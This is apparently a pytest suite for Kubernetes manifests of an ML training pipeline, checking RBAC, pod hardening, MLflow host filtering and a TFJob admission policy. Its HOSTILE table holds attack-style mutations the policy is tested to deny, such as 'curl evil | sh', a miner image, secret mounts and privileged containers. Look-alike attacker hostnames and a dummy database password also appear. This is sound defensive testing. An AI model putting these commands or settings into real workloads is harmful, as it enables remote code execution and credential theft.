"""The kustomize base and TFJob template validate offline (the function `make k8s-validate` runs)."""

import copy
import shutil
from pathlib import Path

import pytest
import yaml

from devtools.validate_k8s import (
    K8sValidationError,
    check_allowed_hosts,
    check_compiled_pipeline,
    check_hardening,
    check_pod_hardening,
    evaluate_admission_policy,
    kubectl_kustomize,
    render_kustomization,
    rendered_tfjobs,
    validate_all,
)

ROOT = Path(__file__).resolve().parents[1]
K8S = ROOT / "k8s"
PIPELINE = ROOT / "pipelines" / "wavenet-train.yaml"


@pytest.fixture(scope="module")
def objects():
    return {(o["kind"], o["metadata"]["name"]): o for o in render_kustomization(K8S)}


def test_every_manifest_validates_offline():
    lines = validate_all(K8S, pipelines=[PIPELINE])
    kinds = {line.split("/")[0] for line in lines if "schema" in line}
    assert kinds == {"Namespace", "ServiceAccount", "Role", "RoleBinding", "Deployment", "Service",
                     "NetworkPolicy", "TFJob", "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding",
                     "ResourceQuota", "LimitRange"}
    assert any("tfjob-template.yaml" in line for line in lines)
    assert sum("CEL (cel-python) admits" in line for line in lines) == 2
    assert any(line.startswith("hardening (Python policy checks)") for line in lines)
    assert any(line.startswith("wavenet-train.yaml: every step non-root") for line in lines)


def test_python_rendering_matches_kubectl_kustomize_when_available():
    theirs = kubectl_kustomize(K8S)
    if theirs is None:
        pytest.skip("kubectl not installed: only the Python rendering is checked")
    ours = render_kustomization(K8S)
    key = lambda o: (o["kind"], o["metadata"]["name"])  # noqa: E731
    assert sorted(ours, key=key) == sorted(theirs, key=key)


def test_launcher_role_allows_only_what_the_launcher_needs(objects):
    rules = objects[("Role", "wavenet-launcher")]["rules"]
    granted = {(g, r, v) for rule in rules for g in rule["apiGroups"] for r in rule["resources"]
               for v in rule["verbs"]}
    assert granted == ({("kubeflow.org", "tfjobs", v) for v in ("create", "get", "list", "watch", "delete")}
                       | {("", "pods", v) for v in ("get", "list", "watch")} | {("", "pods/log", "get")})
    binding = objects[("RoleBinding", "wavenet-launcher")]
    assert binding["roleRef"]["name"] == "wavenet-launcher"
    assert binding["subjects"] == [{"kind": "ServiceAccount", "name": "wavenet-launcher",
                                    "namespace": "wavenet"}]
    assert objects[("ServiceAccount", "wavenet-trainer")]["automountServiceAccountToken"] is False


def test_mlflow_server_is_authenticated_host_checked_and_uses_secrets_by_name(objects):
    dep = objects[("Deployment", "mlflow")]
    (c,) = dep["spec"]["template"]["spec"]["containers"]
    args = c["args"]
    assert args[0] == "server" and "--app-name=basic-auth" in args
    assert any(a.startswith("--allowed-hosts=") for a in args)
    assert any(a.startswith("--artifacts-destination=gs://") for a in args)
    env = {e["name"]: e for e in c["env"]}
    for name in ("MLFLOW_BACKEND_STORE_URI", "MLFLOW_AUTH_ADMIN_PASSWORD", "MLFLOW_FLASK_SERVER_SECRET_KEY"):
        assert "value" not in env[name] and env[name]["valueFrom"]["secretKeyRef"]["name"]
    svc = objects[("Service", "mlflow")]
    assert svc["spec"]["type"] == "ClusterIP"
    assert svc["spec"]["selector"] == dep["spec"]["template"]["metadata"]["labels"]


def test_network_policy_admits_only_the_pipeline_namespace(objects):
    pol = objects[("NetworkPolicy", "mlflow-ingress")]
    assert pol["spec"]["podSelector"]["matchLabels"] == {"app.kubernetes.io/name": "mlflow"}
    (rule,) = pol["spec"]["ingress"]
    # A bare podSelector (no namespaceSelector) admits pods of the policy's namespace only.
    assert rule["from"] == [{"podSelector": {}}]
    assert rule["ports"] == [{"protocol": "TCP", "port": 5000}]
    assert pol["spec"]["policyTypes"] == ["Ingress"]


@pytest.fixture
def k8s_copy(tmp_path):
    dst = tmp_path / "k8s"
    shutil.copytree(K8S, dst)
    return dst


def _edit(path: Path, fn):
    docs = list(yaml.safe_load_all(path.read_text()))
    fn(docs)
    path.write_text(yaml.safe_dump_all(docs))


def test_a_typo_in_a_core_manifest_is_reported_with_the_object(k8s_copy):
    def typo(docs):
        dep = next(d for d in docs if d["kind"] == "Deployment")
        dep["spec"]["replica"] = 1
    _edit(k8s_copy / "mlflow.yaml", typo)
    with pytest.raises(K8sValidationError, match="Deployment/wavenet/mlflow.*replica"):
        validate_all(k8s_copy)


def test_a_committed_secret_or_credential_is_refused(k8s_copy):
    (k8s_copy / "secret.yaml").write_text(yaml.safe_dump(
        {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db"},
         "stringData": {"uri": "postgresql://mlflow:hunter22@db:5432/mlflow"}}))
    kust = yaml.safe_load((k8s_copy / "kustomization.yaml").read_text())
    kust["resources"].append("secret.yaml")
    (k8s_copy / "kustomization.yaml").write_text(yaml.safe_dump(kust))
    with pytest.raises(K8sValidationError) as e:
        validate_all(k8s_copy)
    assert "Secrets must not be committed" in str(e.value)
    assert "looks like a credential" in str(e.value)


def test_a_bad_tfjob_template_is_reported(k8s_copy):
    def bad(docs):
        docs[0]["spec"]["tfReplicaSpecs"]["Worker"]["restartPolicy"] = "Sometimes"
    _edit(k8s_copy / "tfjob-template.yaml", bad)
    with pytest.raises(K8sValidationError, match="tfjob-template.yaml"):
        validate_all(k8s_copy)


def test_the_base_caps_gpus_tfjobs_and_compute_with_a_quota(objects, k8s_copy):
    hard = objects[("ResourceQuota", "wavenet")]["spec"]["hard"]
    assert int(hard["requests.nvidia.com/gpu"]) >= 1 and int(hard["count/tfjobs.kubeflow.org"]) >= 1
    # The step pods that state no requests get the LimitRange's defaults (else the quota refuses them).
    (limits,) = objects[("LimitRange", "wavenet")]["spec"]["limits"]
    assert {"cpu", "memory"} <= set(limits["defaultRequest"]) and "memory" in limits["default"]
    kust = k8s_copy / "kustomization.yaml"
    kust.write_text(kust.read_text().replace("  - quota.yaml\n", ""))
    (k8s_copy / "quota.yaml").unlink()
    with pytest.raises(K8sValidationError, match="the base needs a ResourceQuota capping requests.nvidia.com/gpu"):
        validate_all(k8s_copy)


def test_a_manifest_left_out_of_the_kustomization_is_reported(k8s_copy):
    (k8s_copy / "extra.yaml").write_text("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n")
    with pytest.raises(K8sValidationError, match="extra.yaml: not listed"):
        validate_all(k8s_copy)


# -- hardening (issue 10, Found 9 and Deliver 7) -------------------------------------------------

def _unhardened_pod():
    """A pod spec as people write them: works, and is not hardened at all."""
    return {"containers": [{"name": "app", "image": "ghcr.io/wavenet-pipelines/wavenet:0.1.0",
                            "command": ["wavenet", "train"]}],
            "volumes": [{"name": "host", "hostPath": {"path": "/var/run"}}]}


def test_an_unhardened_pod_fails_every_hardening_check():
    problems = check_pod_hardening(_unhardened_pod(), "Pod/x")
    text = "\n".join(problems)
    for expected in ("automountServiceAccountToken must be false", "volume 'host' is a hostPath",
                     "runAsNonRoot must be true", "runAsUser must be 1000", "seccompProfile must be RuntimeDefault",
                     "allowPrivilegeEscalation must be false", "capabilities must drop ALL",
                     "readOnlyRootFilesystem must be true", "needs a writable emptyDir at /scratch",
                     "needs cpu and memory requests and a memory limit"):
        assert expected in text, (expected, problems)


def test_manifest_pods_are_hardened_and_a_stripped_one_fails_validation(objects, k8s_copy):
    dep = objects[("Deployment", "mlflow")]
    assert check_pod_hardening(dep["spec"]["template"]["spec"], "mlflow") == []
    template = yaml.safe_load((K8S / "tfjob-template.yaml").read_text())
    pod = template["spec"]["tfReplicaSpecs"]["Worker"]["template"]["spec"]
    assert check_pod_hardening(pod, "tfjob") == []
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert pod["automountServiceAccountToken"] is False
    (c,) = pod["containers"]
    assert c["securityContext"]["readOnlyRootFilesystem"] is True
    assert {"name": "scratch", "emptyDir": {}} in pod["volumes"]

    def strip(docs):
        d = next(d for d in docs if d["kind"] == "Deployment")
        spec = d["spec"]["template"]["spec"]
        del spec["securityContext"]["seccompProfile"]
        del spec["containers"][0]["securityContext"]["readOnlyRootFilesystem"]
    _edit(k8s_copy / "mlflow.yaml", strip)
    with pytest.raises(K8sValidationError) as e:
        validate_all(k8s_copy)
    assert "Deployment/wavenet/mlflow container 'mlflow': seccompProfile must be RuntimeDefault" in str(e.value)
    assert "readOnlyRootFilesystem must be true" in str(e.value)


def test_the_namespace_enforces_pod_security_restricted(objects):
    labels = objects[("Namespace", "wavenet")]["metadata"]["labels"]
    assert labels["pod-security.kubernetes.io/enforce"] == "restricted"
    assert labels["pod-security.kubernetes.io/warn"] == "restricted"
    unlabelled = {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "x"}}
    assert "pod-security.kubernetes.io/enforce must be one of" in "".join(check_hardening([unlabelled]))


def _allowed_hosts(objects):
    (c,) = objects[("Deployment", "mlflow")]["spec"]["template"]["spec"]["containers"]
    (arg,) = [a for a in c["args"] if a.startswith("--allowed-hosts=")]
    return arg.split("=", 1)[1].split(",")


def test_allowed_hosts_refuse_an_attackers_name_by_mlflows_own_matching(objects):
    """MLflow decides with mlflow.server.security_utils.is_allowed_host_header (fnmatch for
    entries with `*`): asked with the manifest's entries, it must refuse look-alike names."""
    from mlflow.server.security_utils import is_allowed_host_header

    allowed = _allowed_hosts(objects)
    for host in ("mlflow:5000", "mlflow.wavenet.svc:5000", "mlflow.team-a.svc.cluster.local:5000",
                 "localhost:5000", "127.0.0.1:5000"):
        assert is_allowed_host_header(allowed, host), host
    for host in ("mlflow.attacker.com:5000", "mlflow.svc.attacker.com:5000", "mlflow.wavenet.svc:5000.evil.com",
                 "mlflow.x.svc.cluster.local.attacker.com:5000", "attacker.com:5000", "mlflow:5001"):
        assert not is_allowed_host_header(allowed, host), host
    # The entry this replaced admitted the attacker's name, and the policy check refuses it.
    old = ["mlflow:5000", "mlflow.*:5000", "localhost:5000"]
    assert is_allowed_host_header(old, "mlflow.attacker.com:5000")
    deployment = copy.deepcopy(objects[("Deployment", "mlflow")])
    c = deployment["spec"]["template"]["spec"]["containers"][0]
    c["args"] = [a for a in c["args"] if not a.startswith("--allowed-hosts=")] + ["--allowed-hosts=" + ",".join(old)]
    (problem,) = check_allowed_hosts([deployment])
    assert "'mlflow.*:5000' can match a public name" in problem
    assert check_allowed_hosts([objects[("Deployment", "mlflow")]]) == []


# -- the TFJob admission policy, its CEL executed by cel-python ------------------------------------

@pytest.fixture(scope="module")
def policy(objects):
    return objects[("ValidatingAdmissionPolicy", "wavenet-tfjobs")]


def _job(what="GPU"):
    """The TFJob the train component renders (wavenet.train.training_tfjob) from the template."""
    from wavenet.edges.tfjob import load_template

    return rendered_tfjobs(load_template(K8S / "tfjob-template.yaml"))[what]


def _pod(job):
    return job["spec"]["tfReplicaSpecs"]["Worker"]["template"]["spec"]


def _ctr(job):
    return _pod(job)["containers"][0]


HOSTILE = {
    "mounts the MLflow auth secret": (lambda j: (_pod(j)["volumes"].append(
        {"name": "s", "secret": {"secretName": "mlflow-auth"}}), _ctr(j)["volumeMounts"].append(
        {"name": "s", "mountPath": "/s"})), "only emptyDir volumes"),
    "reads the backend URI by envFrom": (lambda j: _ctr(j).update(
        envFrom=[{"secretRef": {"name": "mlflow-backend"}}]), "no envFrom"),
    "reads the backend URI by secretKeyRef": (lambda j: _ctr(j)["env"].append(
        {"name": "DB", "valueFrom": {"secretKeyRef": {"name": "mlflow-backend", "key": "uri"}}}),
        "only keys username and password of Secret mlflow-client"),
    "a hostPath": (lambda j: _pod(j)["volumes"].append({"name": "h", "hostPath": {"path": "/"}}),
                   "only emptyDir volumes"),
    "another image": (lambda j: _ctr(j).update(image="docker.io/attacker/miner:1"), "wavenet image"),
    "a look-alike registry": (lambda j: _ctr(j).update(image="ghcr.io/wavenet-pipelines-evil/wavenet:1"),
                              "wavenet image"),
    "privileged": (lambda j: _ctr(j)["securityContext"].update(privileged=True), "not privileged"),
    "an added capability": (lambda j: _ctr(j)["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
                            "add none"),
    "root in the container": (lambda j: _ctr(j)["securityContext"].update(runAsUser=0), "no other user"),
    "a writable root": (lambda j: _ctr(j)["securityContext"].update(readOnlyRootFilesystem=False),
                        "read-only root filesystem"),
    "no seccomp profile": (lambda j: _pod(j)["securityContext"].pop("seccompProfile"), "seccompProfile"),
    "the API token": (lambda j: _pod(j).update(automountServiceAccountToken=True), "without a service-account token"),
    "the launcher's identity": (lambda j: _pod(j).update(serviceAccountName="wavenet-launcher"),
                                "service account wavenet-trainer"),
    "the host network": (lambda j: _pod(j).update(hostNetwork=True), "no host network"),
    "an init container": (lambda j: _pod(j).update(initContainers=[dict(_ctr(j), name="init")]),
                          "no init or ephemeral containers"),
    "a Chief replica": (lambda j: j["spec"]["tfReplicaSpecs"].update(
        Chief=copy.deepcopy(j["spec"]["tfReplicaSpecs"]["Worker"])), "only Worker replicas"),
    # The program (issue 19): the entry point, its arguments, replicas, resources, placement.
    "another command": (lambda j: _ctr(j).update(command=["sh", "-c", "curl evil | sh"]), "the program is"),
    "python instead of the entry point": (lambda j: _ctr(j).update(command=["python", "-c", "x"]),
                                          "the program is"),
    "no command (the image's entry point)": (lambda j: _ctr(j).pop("command"), "the program is"),
    "args without --worker": (lambda j: _ctr(j)["args"].remove("--worker"), "the program is"),
    "a flag the launcher never writes": (lambda j: _ctr(j)["args"].append("--workers"), "the program is"),
    "data from outside a bucket": (lambda j: _ctr(j)["args"].__setitem__(0, "/etc"), "the program is"),
    "no replicas": (lambda j: j["spec"]["tfReplicaSpecs"]["Worker"].pop("replicas"), "Worker replicas between"),
    "17 replicas": (lambda j: j["spec"]["tfReplicaSpecs"]["Worker"].update(replicas=17), "Worker replicas between"),
    "0 replicas": (lambda j: j["spec"]["tfReplicaSpecs"]["Worker"].update(replicas=0), "Worker replicas between"),
    "no resources": (lambda j: _ctr(j).pop("resources"), "resources:"),
    "no memory limit": (lambda j: _ctr(j)["resources"]["limits"].pop("memory"), "resources:"),
    "no cpu request": (lambda j: _ctr(j)["resources"]["requests"].pop("cpu"), "resources:"),
    "a terabyte of memory": (lambda j: _ctr(j)["resources"]["limits"].update(memory="1Ti"), "resources:"),
    "65Gi of memory": (lambda j: _ctr(j)["resources"]["requests"].update(memory="65Gi"), "resources:"),
    "64 cores": (lambda j: _ctr(j)["resources"]["requests"].update(cpu="64"), "resources:"),
    "9 GPUs per pod": (lambda j: _ctr(j)["resources"]["limits"].update({"nvidia.com/gpu": 9}), "resources:"),
    "another extended resource": (lambda j: _ctr(j)["resources"]["limits"].update({"amd.com/gpu": 1}),
                                  "resources:"),
    "a node name": (lambda j: _pod(j).update(nodeName="node-1"), "placement as the template allows"),
    "an affinity": (lambda j: _pod(j).update(affinity={"nodeAffinity": {}}), "placement as the template allows"),
    "another node label": (lambda j: _pod(j)["nodeSelector"].update({"kubernetes.io/hostname": "n1"}),
                           "placement as the template allows"),
    "a toleration of every taint": (lambda j: _pod(j)["tolerations"].append({"operator": "Exists"}),
                                    "placement as the template allows"),
    "a priority class": (lambda j: _pod(j).update(priorityClassName="system-node-critical"),
                         "placement as the template allows"),
}


@pytest.mark.parametrize("what", ["GPU", "CPU"])
def test_the_admission_policy_admits_the_tfjobs_the_launcher_renders(policy, what):
    assert evaluate_admission_policy(policy, _job(what)) == []


def test_the_admission_policy_admits_the_image_by_digest(policy):
    """make compile names the image <name>@sha256:... once make push recorded it."""
    job = _job()
    _ctr(job)["image"] = "ghcr.io/wavenet-pipelines/wavenet-gpu@sha256:" + "0" * 64
    assert evaluate_admission_policy(policy, job) == []


@pytest.mark.parametrize("what", sorted(HOSTILE))
def test_the_admission_policy_denies_a_tfjob_off_the_template(policy, what):
    mutate, message = HOSTILE[what]
    job = _job()
    mutate(job)
    denied = evaluate_admission_policy(policy, job)
    assert any(message in d for d in denied), (what, denied)


def test_the_admission_policy_binds_to_the_labelled_namespace_and_names_our_registry(objects, policy):
    from components.images import DEFAULT_REGISTRY

    binding = objects[("ValidatingAdmissionPolicyBinding", "wavenet-tfjobs")]
    assert binding["spec"]["policyName"] == policy["metadata"]["name"]
    assert binding["spec"]["validationActions"] == ["Deny"]
    selector = binding["spec"]["matchResources"]["namespaceSelector"]["matchLabels"]
    assert selector.items() <= objects[("Namespace", "wavenet")]["metadata"]["labels"].items()
    assert policy["spec"]["failurePolicy"] == "Fail"
    (image,) = [v["expression"] for v in policy["spec"]["variables"] if v["name"] == "image"]
    assert DEFAULT_REGISTRY.replace(".", "\\\\.") in image, image
    rules = policy["spec"]["matchConstraints"]["resourceRules"]
    assert rules == [{"apiGroups": ["kubeflow.org"], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                      "resources": ["tfjobs"]}]


def test_the_compiled_pipelines_steps_run_non_root_with_scratch(tmp_path):
    assert check_compiled_pipeline(PIPELINE) == []
    docs = list(yaml.safe_load_all(PIPELINE.read_text()))
    executors = docs[1]["platforms"]["kubernetes"]["deploymentSpec"]["executors"]
    assert all(e["securityContext"] == {"runAsUser": "1000", "runAsGroup": "1000", "runAsNonRoot": True}
               for e in executors.values())
    name = sorted(executors)[0]
    del executors[name]["securityContext"]
    broken = tmp_path / "p.yaml"
    broken.write_text(yaml.safe_dump_all(docs))
    (problem,) = check_compiled_pipeline(broken)
    assert f"step {name} must run non-root as uid 1000" in problem


def test_the_serving_deployment_serves_the_champion_from_the_image_hardened(objects):
    deploy = objects[("Deployment", "wavenet-serve")]
    pod = deploy["spec"]["template"]["spec"]
    assert check_pod_hardening(pod, "wavenet-serve") == []
    (c,) = pod["containers"]
    # The command tests/test_serving.py runs for real, on the cluster's port.
    assert c["command"][:6] == ["mlflow", "models", "serve", "-m", "models:/wavenet@champion",
                                "--env-manager"] and c["command"][6] == "local"
    assert c["command"][c["command"].index("--port") + 1] == str(c["ports"][0]["containerPort"])
    env = {e["name"]: e for e in c["env"]}
    assert env["MLFLOW_TRACKING_URI"]["value"] == "http://mlflow:5000"  # the Service of mlflow.yaml
    for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
        assert c[probe]["httpGet"] == {"path": "/ping", "port": "http"}, probe
    service = objects[("Service", "wavenet-serve")]
    assert service["spec"]["selector"] == deploy["spec"]["selector"]["matchLabels"]
